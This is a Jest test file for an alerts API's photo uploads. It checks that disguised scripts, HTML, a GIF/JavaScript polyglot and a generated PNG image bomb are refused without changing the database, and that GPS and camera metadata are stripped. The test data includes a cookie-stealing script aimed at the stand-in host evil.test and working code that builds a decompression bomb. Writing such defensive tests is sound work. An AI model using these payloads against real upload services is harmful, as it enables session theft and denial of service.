// Issue 9, attack: what an officer's upload can carry. A script dressed as a
// photo and an image bomb are refused and change nothing; a phone photo's GPS
// position and camera details never reach what is stored or served.
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import {
  aCreateBody,
  type AlertApiTestApp,
  aPhoneJpeg,
  bearer,
  expectStatus,
  startAlertApi,
} from '../alerts-api/alert-api-test.app';
import { databaseFingerprint } from './support/database-fingerprint';

/** CRC-32 of PNG chunks (ISO 3309), small enough to write here. */
function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A valid PNG header claiming 50,000 × 50,000 pixels (7.5 GB decoded) with a
 * few hundred bytes of data: a decoder that trusts it allocates first.
 */
function pngBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(50_000, 0);
  header.writeUInt32BE(50_000, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(150_001))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('photo uploads under attack', () => {
  let t: AlertApiTestApp;
  let officer: string;
  let alertId: string;

  beforeAll(async () => {
    t = await startAlertApi();
    officer = await t.login('officer');
    alertId = expectStatus(
      await t.http().post('/v1/alerts').set(bearer(officer)).send(aCreateBody()),
      201,
    ).id!;
  }, 60_000);

  afterAll(async () => {
    await t?.close();
  });

  const upload = (contentType: string, bytes: Buffer) =>
    t
      .http()
      .post(`/v1/alerts/${alertId}/photos`)
      .set(bearer(officer))
      .set('Content-Type', contentType)
      .send(bytes);

  it.each([
    [
      'a script sent as a JPEG',
      'image/jpeg',
      () => Buffer.from('<script>fetch("//evil.test/"+document.cookie)</script>'),
    ],
    [
      'an HTML page sent as a PNG',
      'image/png',
      () => Buffer.from('<!doctype html><html><body onload=alert(1)>'),
    ],
    ['a GIF/JavaScript polyglot', 'image/gif', () => Buffer.from('GIF89a/*\x01\x00\x01\x00*/=alert(1);//')],
    ['an image bomb (50,000 × 50,000 pixels in a few hundred bytes)', 'image/png', pngBomb],
  ])('refuses %s with a 4xx that says why, changing nothing', async (_what, contentType, bytes) => {
    const before = await databaseFingerprint(t.pool);
    const response = await upload(contentType, bytes());
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
    expect(typeof (response.body as { message?: unknown }).message).toBe('string');
    expect(await databaseFingerprint(t.pool)).toEqual(before);
  });

  it('strips the GPS position and camera details from every stored and served variant', async () => {
    const photo = await aPhoneJpeg();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const { photoId } = expectStatus(await upload('image/jpeg', photo), 201) as { photoId: string };
    const { rows } = await t.pool.query<{ variant: string; bytes: Buffer }>(
      'SELECT variant, bytes FROM photo_variants WHERE photo_id = $1',
      [photoId],
    );
    expect(rows.length).toBeGreaterThan(1);
    for (const { variant, bytes } of rows) {
      const metadata = await sharp(bytes).metadata();
      expect({ variant, exif: metadata.exif, xmp: metadata.xmp }).toEqual({
        variant,
        exif: undefined,
        xmp: undefined,
      });
      expect(bytes.includes(Buffer.from('PhoneMaker'))).toBe(false);
    }
  });
});
